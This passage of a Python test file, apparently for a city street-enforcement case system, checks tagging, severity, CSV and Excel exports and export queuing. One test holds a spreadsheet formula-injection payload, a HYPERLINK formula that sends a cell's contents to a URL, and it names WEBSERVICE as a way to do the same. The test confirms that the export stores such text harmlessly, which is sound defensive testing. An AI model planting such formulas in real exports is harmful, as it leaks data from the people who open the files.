    settings = settings_for(tmp_path)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson")
    app, tokens = make_app(settings, resume_jobs=False)
    store = app.state.ctx.store
    case_id = CaseMaker(store).add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ))
    reviewer, inspector = auth(tokens["reviewer"]), auth(tokens["inspector"])
    with TestClient(app, raise_server_exceptions=False) as client:
        def g1_items() -> dict[str, float]:
            answer = client.get("/api/v1/scores", params={"period": "2026-12", "by": "grid"}, headers=inspector)
            assert answer.status_code == 200, answer.text
            unit = next(u for u in answer.json()["units"] if u["unit"] == G1)
            return {i["id"]: i["deduction"] for s in unit["sections"] for i in s["items"] if i["deduction"]}

        assert g1_items() == {"unlicensed_stall": 1}
        tags = {t["tag"]: t for t in client.get("/api/v1/meta", headers=reviewer).json()["tags"]}
        assert tags["food_on_site"]["types"] == ["street_stall"] and "现场加工食品" in tags["food_on_site"]["items"][0]

        bad = client.patch(f"/api/v1/cases/{case_id}", headers=reviewer, json={"tags": ["Food On Site"]})
        assert bad.status_code == 422 and store.get(case_id).details.get("tags") is None
        tagged = client.patch(f"/api/v1/cases/{case_id}", headers=reviewer, json={"tags": ["food_on_site", "food_on_site"]})
        assert tagged.status_code == 200 and tagged.json()["details"]["tags"] == ["food_on_site"]
        assert g1_items() == {"food_stall": 2}  # counted by the food item, which replaces the plain stall item
        revision = store.get(case_id).details["revisions"][-1]
        assert (revision["field"], revision["from"], revision["to"], revision["by"]) == ("tags", [], ["food_on_site"], "reviewer-user")
        audit = client.get(f"/api/v1/cases/{case_id}/audit", headers=reviewer).json()["items"]
        assert audit[-1]["details"]["tags"] == {"from": [], "to": ["food_on_site"]}

        store.review(case_id, approve=False, reviewer="审核员", reason_code="not_a_violation")
        untagged = client.patch(f"/api/v1/cases/{case_id}", headers=reviewer, json={"tags": []})
        assert untagged.status_code == 200 and untagged.json()["details"]["tags"] == []  # tags change in any state
        assert client.patch(f"/api/v1/cases/{case_id}", headers=reviewer, json={"type": "flyposting"}).status_code == 409
    store.close()


def test_a_reviewer_sets_a_case_severity_and_the_report_counts_cases_by_severity(tmp_path):
    """Severity (案件等级) is set at opening (here: none recorded, so general) and corrected in review: PATCH with
    revision and audit, an unknown value refused; /meta lists the levels with their Chinese names; the report and
    the export count by it."""
    from datetime import datetime

    from pipelines.analytics.casedata import load_cases
    from pipelines.analytics.export import COLUMNS, export_rows

    settings = settings_for(tmp_path)
    app, tokens = make_app(settings, resume_jobs=False)
    store = app.state.ctx.store
    maker = CaseMaker(store)
    stall = maker.add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ))
    maker.add("flyposting", G2, datetime(2026, 12, 4, 10, tzinfo=TZ))
    reviewer = auth(tokens["reviewer"])
    with TestClient(app, raise_server_exceptions=False) as client:
        levels = client.get("/api/v1/meta", headers=reviewer).json()["severities"]
        assert levels == [{"id": "general", "zh": "一般"}, {"id": "major", "zh": "较重"}, {"id": "serious", "zh": "严重"}]
        bad = client.patch(f"/api/v1/cases/{stall}", headers=reviewer, json={"severity": "catastrophic"})
        assert bad.status_code == 422 and "severity" not in store.get(stall).details
        set_ = client.patch(f"/api/v1/cases/{stall}", headers=reviewer, json={"severity": "serious"})
        assert set_.status_code == 200 and set_.json()["details"]["severity"] == "serious"
        revision = store.get(stall).details["revisions"][-1]
        assert (revision["field"], revision["from"], revision["to"]) == ("severity", "general", "serious")
        assert client.get(f"/api/v1/cases/{stall}/audit", headers=reviewer).json()["items"][-1]["details"]["severity"] == {"from": "general", "to": "serious"}
        again = client.patch(f"/api/v1/cases/{stall}", headers=reviewer, json={"severity": "serious"})
        assert again.status_code == 200 and len(store.get(stall).details["revisions"]) == 1  # no change, no revision
        serious = client.get("/api/v1/cases", params={"severity": "serious"}, headers=reviewer).json()
        assert [c["id"] for c in serious["items"]] == [stall] and serious["total"] == 1
        assert client.get("/api/v1/cases", params={"severity": "general"}, headers=reviewer).json()["total"] == 1
        assert client.get("/api/v1/cases", params={"severity": "awful"}, headers=reviewer).status_code == 422
        exported = client.get("/api/v1/exports/cases", params={"severity": ["serious", "major"]}, headers=reviewer)
        assert exported.status_code == 200 and [r.split(",")[0] for r in exported.text.strip().splitlines()[1:]] == [stall]
        refused = client.get("/api/v1/exports/cases", params={"severity": "awful"}, headers=reviewer)
        assert refused.status_code == 422 and "severity 'awful'" in refused.text

    report = build_report(store.engine, load_places(settings.analytics), load_taxonomy(), parse_period("2026-12"), TZ)
    rows = {r[0]: r for r in report.tables["by_severity"].rows}
    assert [rows[s][1:3] for s in ("general", "major", "serious")] == [["一般", 1], ["较重", 0], ["严重", 1]]
    rows = list(export_rows(load_cases(store.engine, load_places(settings.analytics)), load_taxonomy(), TZ))
    column = COLUMNS.index("严重程度 severity")
    assert sorted(r[column] for r in rows) == ["general", "serious"]
    # Each code has what city staff call it beside it, as the type has, from the one vocabulary each.
    named = {(r[COLUMNS.index("状态 state")], r[COLUMNS.index("状态名称 state name")], r[COLUMNS.index("来源 source")],
              r[COLUMNS.index("来源名称 source name")], r[column], r[COLUMNS.index("严重程度名称 severity name")]) for r in rows}
    assert named == {("candidate", "待审核", "photo", "照片", "general", "一般"), ("candidate", "待审核", "photo", "照片", "serious", "严重")}
    store.close()


def test_case_text_in_an_export_is_text_never_a_formula(tmp_path):
    """A description (or shop name, note) starting with `=` is written as text: openpyxl would otherwise store it
    as a formula that runs in the Excel of whoever opens the export (=HYPERLINK, =WEBSERVICE sending cells out), and
    the CSV export wrote it as it was, which Excel and WPS run just the same when a clerk opens the file. A phone number
    was written to the CSV as bare digits, which Excel opens as 1.38E+10: it is written ="…", text."""
    from datetime import datetime

    from pipelines.analytics.export import COLUMNS

    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    stall = CaseMaker(app.state.ctx.store).add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ), phones=["13800138000"])
    reviewer = auth(tokens["reviewer"])
    text = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"查看 open")'
    with TestClient(app, raise_server_exceptions=False) as client:
        assert client.patch(f"/api/v1/cases/{stall}", headers=reviewer, json={"description": text}).status_code == 200
        answer = client.get("/api/v1/exports/cases", params={"format": "xlsx"}, headers=reviewer)
        as_csv = client.get("/api/v1/exports/cases", params={"format": "csv"}, headers=reviewer)
    assert answer.status_code == as_csv.status_code == 200
    row = load_workbook(io.BytesIO(answer.content)).active[2]
    cell = row[COLUMNS.index("描述 description")]
    assert (cell.value, cell.data_type) == (text, "s")
    [header, row] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert row[header.index("描述 description")] == "'" + text  # after an apostrophe: text to the spreadsheet
    assert row[header.index("号码 phones")] == '="13800138000"'  # text to Excel, not 1.38E+10



def test_reviewers_notes_are_exported_in_a_column_of_their_own(tmp_path):
    """The notes a reviewer adds to a case (POST /cases/{id}/notes: why a case a platform holds is false) were in
    no export: the 备注 notes column has them, a line each, oldest first, `local time actor: text`, the 描述
    description as it was; in Excel a text cell, in CSV read back as written (a line starting = is inside the cell).
    A note's further lines are indented: written flush, a note's line `2026-12-05 10:00:00 张科长: 同意作废` read as a
    note of 张科长's."""
    from datetime import UTC, datetime

    from pipelines.analytics.export import COLUMNS, NOTE_INDENT

    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    store = app.state.ctx.store
    make = CaseMaker(store)
    stall = make.add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ), state="submitted")
    quiet = make.add("street_stall", G2, datetime(2026, 12, 3, 11, tzinfo=TZ))
    store.add_note(stall, actor="王工", text="现场核实：摊位已撤", now=datetime(2026, 12, 5, 1, 30, tzinfo=UTC))
    reviewer = auth(tokens["reviewer"])
    text = "=1+1 不是公式\n第二行：平台请作废\r\n2026-12-05 10:00:00 张科长: 同意作废"
    with TestClient(app, raise_server_exceptions=False) as client:
        assert client.post(f"/api/v1/cases/{stall}/notes", headers=reviewer, json={"text": text}).status_code == 201
        as_csv = client.get("/api/v1/exports/cases", headers=reviewer)
        as_xlsx = client.get("/api/v1/exports/cases", params={"format": "xlsx"}, headers=reviewer)
    assert as_csv.status_code == as_xlsx.status_code == 200
    second = store.get(stall).details["notes"][1]
    at = datetime.fromisoformat(second["at"]).astimezone(TZ).strftime("%Y-%m-%d %H:%M:%S")
    expected = (f"2026-12-05 09:30:00 王工: 现场核实：摊位已撤\n{at} {second['by']}: =1+1 不是公式\n"
                f"{NOTE_INDENT}第二行：平台请作废\n{NOTE_INDENT}2026-12-05 10:00:00 张科长: 同意作废")
    [header, *rows] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert header == COLUMNS and header[-2:] == ["描述 description", "备注 notes"]
    written = {r[0]: r for r in rows}
    assert written[stall][-1] == expected and written[quiet][-1] == ""
    assert written[stall][-2] == written[quiet][-2] == ""  # the description is the case's own text, no note in it
    book = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = {row[0].value: row[COLUMNS.index("备注 notes")] for row in book.iter_rows(min_row=2)}
    assert (cells[stall].value, cells[stall].data_type) == (expected, "s") and cells[quiet].value is None

def test_the_case_export_names_the_verifier_that_judged_each_case(tmp_path, bus_event):
    """The case page and the platforms are told which verifier judged a case (its evidence's manifest), the export was
    not: its 核验模型 verifier column has the id its bundle names, `none` for one judged by the detector's classes alone,
    and nothing for one whose bundle names none; three cases through the real intake, as CSV and as Excel."""
    from dataclasses import replace

    from detect.evidence.builder import VerifierInfo
    from pipelines.analytics.export import COLUMNS

    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    judged, alone, unnamed = draft_cases(app, bus_event, [{}, {"model": replace(MODEL, verifier=VerifierInfo("none"))},
                                                          {"model": replace(MODEL, verifier=None)}])
    reviewer = auth(tokens["reviewer"])
    with TestClient(app, raise_server_exceptions=False) as client:
        as_csv = client.get("/api/v1/exports/cases", headers=reviewer)
        as_xlsx = client.get("/api/v1/exports/cases", params={"format": "xlsx"}, headers=reviewer)
    assert as_csv.status_code == as_xlsx.status_code == 200
    [header, *rows] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    column = header.index("核验模型 verifier")
    assert {r[0]: r[column] for r in rows} == {judged: "street-v7", alone: "none", unnamed: ""}
    book = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert {row[0].value: row[COLUMNS.index("核验模型 verifier")].value for row in book.iter_rows(min_row=2)} == {
        judged: "street-v7", alone: "none", unnamed: None}


def test_a_photo_judged_as_a_whole_has_no_zone_in_the_case_export(tmp_path, bus_event):
    """A photo without map zones is judged as a whole, which the case records as the zone `image`: the export's 区域 zone
    column said `image` to the staff reading it, where the triage report says nothing. It is empty, as for no zone."""
    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    [case_id] = draft_cases(app, bus_event, [{}])
    assert app.state.ctx.store.get(case_id).zone_id == "image"
    with TestClient(app, raise_server_exceptions=False) as client:
        as_csv = client.get("/api/v1/exports/cases", headers=auth(tokens["reviewer"]))
    [row] = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert (row["案件编号 id"], row["区域 zone"]) == (case_id, "")


def test_a_long_case_export_is_read_in_pages_and_comes_whole(tmp_path, monkeypatch):
    """GET /exports/cases built every matching case, then the whole file, in the server's memory (a city's years of
    cases at once); it reads the store a page at a time (a page of 7 here) and streams them out. Every case comes
    once, in the order of load_cases, across pages whose boundary falls among cases opened at the same moment; the
    Excel file, written to a temporary file, leaves none behind."""
    import tempfile
    from datetime import datetime, timedelta

    import sqlalchemy as sa

    from pipelines.analytics import casedata
    from pipelines.analytics.casedata import load_cases
    from pipelines.analytics.export import COLUMNS

    monkeypatch.setattr(casedata, "PAGE", 7)
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    app, tokens = make_app(settings_for(tmp_path / "app"), resume_jobs=False)
    store = app.state.ctx.store
    make = CaseMaker(store)
    start = datetime(2026, 12, 1, 9, tzinfo=TZ)
    made = [make.add("street_stall", (G1, G2)[i % 2], start + timedelta(minutes=i // 4), state="candidate") for i in range(45)]
    expected = [c.id for c in load_cases(store.engine, load_places(app.state.ctx.settings.analytics))]
    assert sorted(expected) == sorted(made)
    selects: list[str] = []
    sa.event.listen(store.engine, "before_cursor_execute",
                    lambda conn, cursor, statement, *rest: selects.append(statement) if "FROM cases" in statement else None)
    reviewer = auth(tokens["reviewer"])
    with TestClient(app, raise_server_exceptions=False) as client:
        as_csv = client.get("/api/v1/exports/cases", headers=reviewer)
        pages = len(selects)
        as_xlsx = client.get("/api/v1/exports/cases", params={"format": "xlsx"}, headers=reviewer)
    assert as_csv.status_code == as_xlsx.status_code == 200
    assert pages == 7  # 45 cases, 7 a page: six full pages and a last of three
    [header, *rows] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert header == COLUMNS and header[:2] == ["案件编号 id", "类型 type"]
    assert [r[0] for r in rows] == expected and {r[header.index("类型名称 type name")] for r in rows} == {"占道经营 / 无照经营游商"}
    book = load_workbook(io.BytesIO(as_xlsx.content))
    assert book.sheetnames == ["案件 Cases"]
    [head, *cells] = list(book.active.iter_rows(values_only=True))
    assert list(head) == COLUMNS and [r[0] for r in cells] == expected
    assert book.active["A1"].font.b and book.active.freeze_panes == "A2"
    assert list(temp.iterdir()) == []  # the workbook's temporary folder is gone


@contextmanager
def export_thread_held(client: TestClient, gate, requests: list[Callable[[], Any]]) -> Iterator[list[Any]]:
    """The app's one export thread (`service.export_concurrency` 1) held while `requests` are sent, each on a thread of
    its own, until they all wait for it (a bounded loop, not a timing) or one was answered first (which the test then
    sees); on leaving it is freed and their answers, in `answers` as they came, are awaited. Why: what the exports'
    gate does with those waiting is only seen while its thread is held."""
    holder, answers = object(), []
    client.portal.call(gate.limiter.acquire_on_behalf_of, holder)
    waiting = [threading.Thread(target=lambda request=request: answers.append(request())) for request in requests]
    try:
        for thread in waiting:
            thread.start()
        for _ in range(6000):
            if client.portal.call(gate.limiter.statistics).tasks_waiting == len(requests) or answers:
                break
            time.sleep(0.01)
        yield answers
    finally:
        client.portal.call(gate.limiter.release_on_behalf_of, holder)
        for thread in waiting:
            thread.join()


def test_a_burst_of_exports_waits_on_threads_of_its_own_and_past_its_queue_is_told_to_come_back(tmp_path):
    """Exports ran on the worker threads every route shares, each for as long as it took: a burst of 200 held all of
    them and every other request waited (p50 16 s). They run on `service.export_concurrency` threads of their own,
    waiting on the event loop without a thread; past `service.export_queue` waiting, one more is answered 503 with
    Retry-After. Here the test holds the one export thread: three exports wait holding no shared thread, a case list
    is answered, a fourth export is refused, and once the thread is free the three come whole."""
    from datetime import datetime

    import anyio.to_thread

    app, tokens = make_app(settings_for(tmp_path, export_concurrency=1, export_queue=2), resume_jobs=False)
    CaseMaker(app.state.ctx.store).add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ))
    gate, reviewer = app.state.ctx.exports, auth(tokens["reviewer"])
    with TestClient(app, raise_server_exceptions=False) as client:
        shared = client.portal.call(anyio.to_thread.current_default_thread_limiter)
        client.portal.call(lambda: setattr(shared, "total_tokens", 3))  # as many as the exports that wait
        export = lambda: client.get("/api/v1/exports/cases", headers=reviewer)  # noqa: E731
        with export_thread_held(client, gate, [export] * 3) as answers:
            assert client.portal.call(gate.limiter.statistics).tasks_waiting == 3 and gate.admitted == 3
            assert client.portal.call(lambda: shared.borrowed_tokens) == 0  # the waiting exports hold no shared thread
            assert client.get("/api/v1/cases", headers=reviewer).status_code == 200
            refused = client.get("/api/v1/exports/cases", params={"format": "xlsx"}, headers=reviewer)
            assert refused.status_code == 503 and int(refused.headers["Retry-After"]) > 0
            assert refused.json()["type"] == "urn:streetwatch:problem:exports-busy"
            assert refused.json()["detail"].startswith("导出和地图请求过多：已有 3 个导出或地图在进行或排队（service.export_concurrency 同时 1 个，"
                                                       "service.export_queue 排队 2 个）")
        assert [a.status_code for a in answers] == [200] * 3
        assert all(len(list(csv.reader(io.StringIO(a.content.decode("utf-8-sig"))))) == 2 for a in answers)
        assert gate.admitted == 0 and client.get("/api/v1/callout/export", headers=reviewer).status_code == 200


def test_the_map_and_its_case_lists_wait_on_the_exports_threads_and_past_their_queue_are_told_to_come_back(tmp_path):
    """The map and a zone's case list read up to analytics.map_max_cases cases and count them in every zone, 3-5 s and
    about 1 MB a map at that cap (a 3,600-cell grid, 100 zones), on the worker threads every route shares, as many at
    once as were asked for. They go through the exports' gate: with its one thread held a map waits holding no shared
    thread, the case list is answered meanwhile, a zone's list past `service.export_queue` (0) is refused 503, and
    once the thread is free the map comes whole."""
    from datetime import datetime

    import anyio.to_thread

    settings = settings_for(tmp_path, export_concurrency=1, export_queue=0)
    settings.analytics.grid = write_grid(tmp_path / "grid.geojson")
    settings.analytics.zones = write_zones(tmp_path / "zones.geojson")
    app, tokens = make_app(settings, resume_jobs=False)
    CaseMaker(app.state.ctx.store).add("street_stall", G1, datetime(2026, 11, 3, 10, tzinfo=TZ))
    gate, who = app.state.ctx.exports, auth(tokens["inspector"])
    with TestClient(app, raise_server_exceptions=False) as client:
        shared = client.portal.call(anyio.to_thread.current_default_thread_limiter)
        with export_thread_held(client, gate, [lambda: client.get("/api/v1/map", params={"period": "2026-11"}, headers=who)]) as answers:
            assert answers == [] and gate.admitted == 1 and client.portal.call(gate.limiter.statistics).tasks_waiting == 1
            assert client.portal.call(lambda: shared.borrowed_tokens) == 0  # the waiting map holds no shared thread
            assert client.get("/api/v1/cases", headers=who).status_code == 200
            refused = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "wensan-no-vending", "period": "2026-11"},
                                 headers=who)
            assert refused.status_code == 503 and refused.json()["type"] == "urn:streetwatch:problem:exports-busy"
            assert refused.json()["detail"].startswith("导出和地图请求过多")
        [layers] = answers
        assert layers.status_code == 200 and layers.headers["content-type"] == "application/json", layers.text
        counts = {f["properties"]["id"]: f["properties"]["count"] for f in layers.json()["layers"]["grid"]["features"]}
        assert counts == {G1: 1, G2: 0, G3: 0, G4: 0} and layers.json()["total"] == 1 and gate.admitted == 0
        listed = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "wensan-no-vending", "period": "2026-11"},
                            headers=who)
        assert listed.status_code == 200 and listed.json()["total"] == 1 and gate.admitted == 0
        unknown = client.get("/api/v1/map/cases", params={"layer": "zones", "id": "nowhere"}, headers=who)
        assert unknown.status_code == 404 and gate.admitted == 0


def test_a_scores_workbook_waits_on_the_exports_threads_and_past_their_queue_is_told_to_come_back(tmp_path):
    """GET /scores?format=xlsx built its workbook on the worker threads every route shares, as many at once as were
    asked for, where the case and call-out exports wait on `service.export_concurrency` threads of their own. It goes
    through the same gate: with the one export thread held it waits holding no shared thread, the JSON scores are
    answered meanwhile, a second workbook past `service.export_queue` (0) is refused 503, and once the thread is free
    the first comes whole."""
    from datetime import datetime

    import anyio.to_thread

    app, tokens = make_app(settings_for(tmp_path, export_concurrency=1, export_queue=0), resume_jobs=False)
    CaseMaker(app.state.ctx.store).add("street_stall", G1, datetime(2026, 11, 3, 10, tzinfo=TZ))
    gate, who = app.state.ctx.exports, auth(tokens["inspector"])
    params = {"period": "2026-11", "by": "camera", "format": "xlsx"}
    with TestClient(app, raise_server_exceptions=False) as client:
        shared = client.portal.call(anyio.to_thread.current_default_thread_limiter)
        with export_thread_held(client, gate, [lambda: client.get("/api/v1/scores", params=params, headers=who)]) as answers:
            assert answers == [] and gate.admitted == 1 and client.portal.call(gate.limiter.statistics).tasks_waiting == 1
            assert client.portal.call(lambda: shared.borrowed_tokens) == 0  # the waiting workbook holds no shared thread
            assert client.get("/api/v1/scores", params={**params, "format": "json"}, headers=who).status_code == 200
            refused = client.get("/api/v1/scores", params=params, headers=who)
            assert refused.status_code == 503 and refused.json()["type"] == "urn:streetwatch:problem:exports-busy"
        [book] = answers
        assert book.status_code == 200 and 'filename="scores-2026-11-camera.xlsx"' in book.headers["content-disposition"]
        assert "得分 Scores" in load_workbook(io.BytesIO(book.content)).sheetnames and gate.admitted == 0
        assert client.get("/api/v1/scores", params={**params, "period": "2026-13"}, headers=who).status_code == 422
        assert gate.admitted == 0


def test_a_rejection_s_reason_and_note_are_exported(tmp_path):
    """The export said a case was 已驳回 rejected and not why: the reason the reviewer picked and what they wrote went
    nowhere a supervisor reading the sheet sees. 审核理由 review reason has the code with its Chinese name, 审核说明
    review note the text; a case not reviewed has neither."""
    from datetime import datetime

    from pipelines.analytics.export import COLUMNS

    app, tokens = make_app(settings_for(tmp_path), resume_jobs=False)
    make = CaseMaker(app.state.ctx.store)
    shade = make.add("street_stall", G1, datetime(2026, 12, 3, 10, tzinfo=TZ))
    waiting = make.add("street_stall", G2, datetime(2026, 12, 3, 11, tzinfo=TZ))
    reviewer = auth(tokens["reviewer"])
    with TestClient(app, raise_server_exceptions=False) as client:
        refused = client.post(f"/api/v1/cases/{shade}/reject", headers=reviewer,
                              json={"reason": "not_a_violation", "note": "遮阳伞，不是摊位"})
        assert refused.status_code == 200, refused.text
        as_csv = client.get("/api/v1/exports/cases", headers=reviewer)
    [header, *rows] = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    reason, note = header.index("审核理由 review reason"), header.index("审核说明 review note")
    assert header == COLUMNS and note == reason + 1
    written = {r[0]: r for r in rows}
    assert (written[shade][reason], written[shade][note]) == ("不构成违规 not_a_violation", "遮阳伞，不是摊位")
    assert (written[waiting][reason], written[waiting][note]) == ("", "")
